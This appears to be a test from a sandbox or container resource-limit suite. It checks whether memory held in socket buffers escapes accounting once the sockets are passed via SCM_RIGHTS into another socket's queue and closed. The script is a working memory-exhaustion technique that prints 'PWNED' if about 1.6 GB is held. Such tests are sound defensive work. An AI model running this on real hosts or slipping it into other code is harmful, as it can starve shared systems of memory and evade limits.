# CLASS: limits   SEVERITY: must   TIMEOUT: 20
# EXPECT: the same for sockets that no process holds, because they are in the buffer of another socket.
import array
import os
import socket
import time

block = bytes(64 << 10)
held = rounds = 0
carriers = []
end = time.monotonic() + 15
while held < 1600 << 20 and time.monotonic() < end:
    try:
        if not carriers or rounds % 30 == 0:
            carriers.append(socket.socketpair())
            carriers[-1][0].setblocking(False)
        one, other = socket.socketpair()
        one.setblocking(False)
        try:
            while True:
                held += one.send(block)
        except OSError:
            pass
        carriers[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [one.fileno(), other.fileno()]))])
        one.close()
        other.close()
        rounds += 1
    except OSError as error:
        print(rounds, error, held >> 20)
        break
print("held", held >> 20, "MiB", flush=True)
time.sleep(0.3)
if held >= 1600 << 20:
    print("PWNED", held >> 20, "MiB in sockets in flight", flush=True)
